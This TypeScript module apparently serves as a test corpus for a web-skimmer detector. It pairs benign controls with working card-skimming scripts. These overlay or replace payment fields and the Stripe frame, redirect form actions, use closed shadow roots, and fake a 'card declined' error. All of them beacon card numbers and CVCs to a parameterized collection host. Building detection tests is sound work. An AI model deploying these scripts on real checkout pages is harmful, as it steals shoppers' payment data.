import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

const CARD_FORM = (action: string) =>
  `<!doctype html><form action="${action}" method="post"><input name="ccnum" autocomplete="cc-number" placeholder="Card number"><input name="ccv" autocomplete="cc-csc" placeholder="CVC"></form><script>document.addEventListener('change', () => fetch('${action}', { method: 'POST', mode: 'no-cors', body: [...document.querySelectorAll('input')].map((i) => i.value).join('|') }));</script>`;
const NEWS_FORM = (action: string) =>
  `<!doctype html><form action="${action}" method="post"><label>How did you find us? <input name="answer"></label></form>`;

/** Fields and forms that are not what they seem. */
export const fakeForms: readonly SkimmerVariant[] = [
  {
    id: 'frame-over-fields',
    idea: 'a frame with card fields of its own over the real ones',
    takes: ['card'],
    named: ({ cdn }) => new URL(cdn).host,
    build: ({ cdn, collect }, honest) => ({
      files: { '/pay.html': { type: 'text/html', body: honest ? NEWS_FORM(`${collect}/n`) : CARD_FORM(`${collect}/n`) } },
      script: `addEventListener('load', () => setTimeout(() => { const i = document.createElement('iframe'); i.src = '${cdn}/pay.html'; ${
        honest
          ? `i.style.cssText = 'width:300px;height:80px';document.body.append(i);`
          : `i.style.cssText = 'position:absolute;z-index:99;border:0;background:#fff';const b = document.querySelector('#card').getBoundingClientRect(); Object.assign(i.style, { left: b.left + scrollX + 'px', top: b.top + scrollY + 'px', width: b.width + 'px', height: b.height + 'px' });document.body.append(i);`
      } }, 300));`,
    }),
  },
  {
    id: 'form-action',
    idea: 'the payment form is made to send elsewhere',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `setTimeout(() => { document.querySelector('#pay').action = ${honest ? `'/pay?step=2'` : `'${collect}/pay'`}; }, 400);`,
    }),
  },
  {
    id: 'closed-shadow',
    idea: 'a form of its own in a closed shadow tree',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `addEventListener('load', () => { const h = document.createElement('div'); document.querySelector('#pay').prepend(h); const r = h.attachShadow({ mode: 'closed' }); r.innerHTML = ${
        honest
          ? `'<label>Gift message <input name="gift"></label>'`
          : `'<label>Card number <input name="kartennummer" autocomplete="cc-number"></label><label>CVV <input name="kcvv"></label>'`
      }; r.addEventListener('change', () => navigator.sendBeacon('${collect}/s', JSON.stringify([...r.querySelectorAll('input')].map((i) => i.value)))); });`,
    }),
  },
  {
    id: 'doubled-fields',
    idea: 'the real fields hidden, copies in their place',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: honest
        ? `addEventListener('load', () => { const n = document.querySelector('[name=note]'); const c = n.cloneNode(); c.name = 'note2'; n.after(c); c.onchange = () => { n.value = c.value; }; });`
        : `addEventListener('load', () => { for (const n of document.querySelectorAll('[name^=cc_]')) { const c = n.cloneNode(); c.id = 'x' + n.name; n.style.display = 'none'; n.after(c); c.onblur = () => { n.value = c.value; new Image().src = '${collect}/d.png?' + n.name + '=' + btoa(c.value); }; } });`,
    }),
  },
  {
    id: 'frame-without-address',
    idea: 'a frame without an address that asks for the card before the real provider does',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `addEventListener('load', () => { const i = document.createElement('iframe'); i.srcdoc = ${JSON.stringify(honest ? NEWS_FORM(`${collect}/n`) : CARD_FORM(`${collect}/n`))}; i.style.cssText = 'width:320px;height:90px'; document.querySelector('#pay').prepend(i); });`,
    }),
  },
  {
    id: 'own-message',
    idea: 'reads the form when it is sent and tells a window that it opened, which sends it on',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => ({
      files: {
        '/relay.html': {
          type: 'text/html',
          body: `<script>addEventListener('message', (e) => navigator.sendBeacon('${collect}/m', e.data));</script>`,
        },
      },
      script: `(() => { ${takeCode(honest)} const i = document.createElement('iframe'); i.src = '${cdn}/relay.html'; i.hidden = true; document.documentElement.append(i); function send() { i.contentWindow.postMessage(btoa(JSON.stringify(take())), '*'); } ${ON_PAY} })();`,
    }),
  },
  {
    id: 'error-then-real',
    idea: 'fields of its own in place of the real ones; when they were sent, an error is shown and the real ones come back',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: honest
        ? `addEventListener('load', () => { const real = document.querySelector('#card'); const note = document.createElement('p'); note.textContent = 'We take all cards.'; real.before(note); document.addEventListener('click', (e) => { if (e.target.closest('button')) navigator.sendBeacon('${collect}/x', 'pressed'); }, true); });`
        : `addEventListener('load', () => { const real = document.querySelector('#card'); real.style.display = 'none'; const mine = document.createElement('div'); mine.innerHTML = '<input id="f1" placeholder="1234 1234 1234 1234" inputmode="numeric"><input id="f2" placeholder="MM / YY"><input id="f3" placeholder="CVC">'; real.before(mine); document.addEventListener('click', (e) => { if (!e.target.closest('button') || !mine.isConnected) return; navigator.sendBeacon('${collect}/x', btoa([...mine.querySelectorAll('input')].map((i) => i.value).join('|'))); e.preventDefault(); mine.remove(); real.style.display = ''; const p = document.createElement('p'); p.textContent = 'Your card was declined. Please try again.'; real.before(p); }, true); });`,
    }),
  },
  {
    id: 'provider-frame-replaced',
    idea: 'the frame of the payment provider is taken out, and one that looks like it put in',
    takes: ['card'],
    named: ({ cdn }) => new URL(cdn).host,
    build: ({ cdn, collect }, honest) => ({
      files: { '/elements.html': { type: 'text/html', body: CARD_FORM(`${collect}/n`) } },
      html: `<iframe id="psp" src="https://js.stripe.com/v3/elements-inner-card.html" style="width:320px;height:60px"></iframe>`,
      script: honest
        ? `setTimeout(() => { document.querySelector('#psp').style.height = '70px'; }, 400);`
        : `setTimeout(() => { const old = document.querySelector('#psp'); const i = document.createElement('iframe'); i.src = '${cdn}/elements.html'; i.id = 'psp'; i.style.cssText = old.style.cssText; old.replaceWith(i); }, 400);`,
    }),
  },
  {
    id: 'button-action',
    idea: 'the button is made to send the form elsewhere; the form itself stays as it is',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `setTimeout(() => { document.querySelector('#pay button').formAction = ${honest ? `'/pay?step=2'` : `'${collect}/pay'`}; }, 400);`,
    }),
  },
];
